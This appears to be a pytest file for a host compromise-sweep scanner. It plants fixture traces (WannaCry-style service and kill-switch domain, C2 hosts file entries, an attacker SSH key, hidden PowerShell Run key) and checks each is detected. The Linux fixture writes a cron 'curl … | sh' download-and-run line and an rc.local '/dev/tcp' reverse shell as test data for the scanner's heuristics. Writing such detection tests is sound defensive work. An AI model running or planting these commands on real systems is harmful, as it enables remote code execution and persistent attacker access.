"""Processes, connections, hosts file, DNS cache and persistence, on fixtures."""

from __future__ import annotations

import base64
import hashlib
import json
from collections.abc import Iterable
from pathlib import Path

from canhgac.sweep import sweep
from canhgac.sweep.live import Connection, Process, parse_dns_cache
from canhgac.sweep.options import SweepOptions
from canhgac.sweep.packs import Indicators, load_text
from canhgac.sweep.persistence import FixtureWindowsSource

KEY_BLOB = base64.b64encode(b"\x00\x00\x00\x0bssh-ed25519" + b"\x00\x00\x00\x20" + bytes(range(32))).decode()


class FixtureLive:
    def __init__(self, tmp: Path, bad: bool) -> None:
        self.bad = bad
        self.hosts = tmp / "hosts"
        self.hosts.write_text(
            "127.0.0.1 localhost\n" + ("203.0.113.66 update.evil-c2.example\n" if bad else "")
        )
        self.exe = tmp / "proc-bin"
        self.exe.write_bytes(b"process binary" if bad else b"fine binary")

    def processes(self) -> Iterable[Process]:
        yield Process(1, "init", "", "init")
        yield Process(4242, "bash", str(self.exe), "bash -c sleep 100")
        if self.bad:
            yield Process(777, "tasksche.exe", r"C:\ProgramData\abc\tasksche.exe", "tasksche.exe /i")

    def connections(self) -> Iterable[Connection]:
        yield Connection(4242, "10.0.0.5:51000", "198.51.100.7", 443, "ESTABLISHED")
        if self.bad:
            yield Connection(4242, "10.0.0.5:51001", "203.0.113.66", 8443, "ESTABLISHED")

    def hosts_file(self) -> Path:
        return self.hosts

    def dns_cache(self) -> Iterable[str]:
        text = "    Record Name . . . . . : www.example.com\n"
        if self.bad:
            text += "    Record Name . . . . . : iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea.com\n"
        return parse_dns_cache(text)


def _indicators() -> Indicators:
    ind = Indicators()
    load_text(
        ind,
        "c2-iocs.txt",
        "203.0.113.66;c2 address\nevil-c2.example;c2 domain\n"
        "iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea.com;kill switch\n",
        "t",
    )
    load_text(
        ind,
        "keys.csv",
        "type,value,note\nregistry-key,HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\mssecsvc2.0,"
        "WannaCry service\n",
        "t",
    )
    load_text(ind, "filename-iocs.txt", "\\\\tasksche\\.exe$;80\n[\\\\/]kworkerd$;90;miner\n", "t")
    blob_sha = hashlib.sha256(base64.b64decode(KEY_BLOB)).hexdigest()
    load_text(
        ind,
        "hash-iocs.txt",
        f"{hashlib.sha256(b'process binary').hexdigest()};bad binary\n{blob_sha};attacker ssh key\n",
        "t",
    )
    return ind


def _linux_root(tmp: Path, bad: bool) -> Path:
    root = tmp / "root"
    for d in (
        "etc/cron.d",
        "etc/systemd/system",
        "root/.ssh",
        "home/an/.ssh",
        "var/spool/cron/crontabs",
        "etc/init.d",
    ):
        (root / d).mkdir(parents=True)
    (root / "etc/crontab").write_text(
        "# m h dom mon dow user command\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
    )
    (root / "etc/init.d/x11-common").write_text(
        "#!/bin/sh\nSOCKET_DIR=/tmp/.X11-unix\nmkdir -p /tmp/.ICE-unix\n"
    )
    (root / "etc/systemd/system/ok.service").write_text("[Service]\nExecStart=/usr/bin/true\n")
    (root / "home/an/.ssh/authorized_keys").write_text("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOk an@pc\n")
    if bad:
        (root / "etc/cron.d/update").write_text("*/5 * * * * root curl -fsSL http://203.0.113.66/x.sh | sh\n")
        (root / "etc/systemd/system/kworkerd.service").write_text(
            "[Service]\nExecStart=/usr/local/bin/kworkerd\n"
        )
        (root / "var/spool/cron/crontabs/www-data").write_text("@reboot /dev/shm/.x/run\n")
        (root / "root/.ssh/authorized_keys").write_text(f"ssh-ed25519 {KEY_BLOB} attacker\n")
        (root / "etc/rc.local").write_text("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n")
    return root


def _windows(tmp: Path, bad: bool) -> FixtureWindowsSource:
    data = {
        "run_keys": [
            {
                "location": r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run",
                "name": "SecurityHealth",
                "command": r"%windir%\system32\SecurityHealthSystray.exe",
            }
        ],
        "services": [
            {
                "location": r"HKLM\SYSTEM\CurrentControlSet\Services\Spooler",
                "name": "Spooler",
                "command": r"C:\Windows\System32\spoolsv.exe",
            }
        ],
        "scheduled_tasks": [],
        "startup_items": [],
    }
    if bad:
        data["services"].append(
            {
                "location": r"HKLM\SYSTEM\CurrentControlSet\Services\mssecsvc2.0",
                "name": "mssecsvc2.0",
                "command": r"C:\WINDOWS\tasksche.exe -m security",
            }
        )
        data["run_keys"].append(
            {
                "location": r"HKCU\SOFTWARE\Microsoft\Windows\CurrentVersion\Run",
                "name": "upd",
                "command": r"powershell -w hidden -enc " + "A" * 60,
            }
        )
        data["scheduled_tasks"].append(
            {
                "location": r"C:\Windows\System32\Tasks\Updater",
                "name": "Updater",
                "command": r"C:\Users\Public\upd.exe",
            }
        )
    path = tmp / "windows.json"
    path.write_text(json.dumps(data))
    return FixtureWindowsSource(path)


def _run(tmp: Path, bad: bool) -> dict[str, object]:
    empty = tmp / "empty"
    empty.mkdir()
    return sweep.run(
        SweepOptions(paths=[empty], cpu_cap=100, system=False),
        _indicators(),
        live=FixtureLive(tmp, bad),
        windows=_windows(tmp, bad),
        persistence_root=_linux_root(tmp, bad),
    )


def test_system_checks_find_planted_traces(tmp_path: Path) -> None:
    body = _run(tmp_path, bad=True)
    got = sorted((h["check"], h["indicator"]) for h in body["hits"])  # type: ignore[attr-defined]
    blob_sha = hashlib.sha256(base64.b64decode(KEY_BLOB)).hexdigest()
    assert got == sorted(
        [
            ("process", "\\\\tasksche\\.exe$"),
            ("process", f"sha256:{hashlib.sha256(b'process binary').hexdigest()}"),
            ("connection", "203.0.113.66"),
            ("hosts", "203.0.113.66"),
            ("hosts", "evil-c2.example"),
            ("dns-cache", "iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea.com"),
            ("persistence", "203.0.113.66"),  # the cron line's URL
            ("persistence", "heuristic:download-to-shell"),
            ("persistence", "[\\\\/]kworkerd$"),
            ("persistence", "heuristic:world-writable-binary"),  # /dev/shm in a crontab
            ("persistence", f"sha256:{blob_sha}"),
            ("persistence", "heuristic:reverse-shell"),
            ("persistence", "\\\\tasksche\\.exe$"),  # the mssecsvc2.0 service
            ("persistence", "hklm\\system\\currentcontrolset\\services\\mssecsvc2.0"),  # its key
            ("persistence", "heuristic:decode-and-run"),  # powershell -enc in a Run key
            ("persistence", "heuristic:world-writable-binary"),  # C:\Users\Public in a task
        ]
    )
    conn = next(h for h in body["hits"] if h["check"] == "connection")  # type: ignore[attr-defined]
    assert conn["process"] == "bash" and conn["pid"] == 4242


def test_system_checks_clean_fixtures_no_hit(tmp_path: Path) -> None:
    body = _run(tmp_path, bad=False)
    assert body["hits"] == []
    counts = body["counts"]
    assert counts["processes"] == 2 and counts["connections"] == 1 and counts["persistence_entries"] >= 6  # type: ignore[index]


def test_dns_cache_parsers() -> None:
    resolvectl = "example.org IN A 93.184.215.14\nwww.evil.example. IN CNAME x.example.net\n"
    assert parse_dns_cache(resolvectl) == ["example.org", "www.evil.example"]
